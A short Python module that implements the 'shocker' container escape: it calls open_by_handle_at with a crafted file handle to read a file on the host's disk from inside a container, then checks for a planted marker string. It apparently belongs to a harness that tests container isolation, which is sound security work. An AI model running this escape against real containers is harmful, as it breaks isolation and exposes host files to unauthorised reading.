# The "shocker" way out of a container: open a file of the host's disk by its handle, without a path.
import ctypes

raw = bytes.fromhex(ARG["handle"])
mark = ARG["mark"].encode()
handle = ctypes.create_string_buffer(
    len(raw).to_bytes(4, sys.byteorder) + int(ARG["type"]).to_bytes(4, sys.byteorder) + raw
)


def act(anchor):
    mount = os.open(anchor, os.O_RDONLY)
    fd = call("open_by_handle_at", mount, handle, os.O_RDONLY)
    return "read the mark" if mark in os.read(fd, 4096) else ""


attempts([(anchor, lambda anchor=anchor: act(anchor)) for anchor in ARG["anchors"].split(",")])
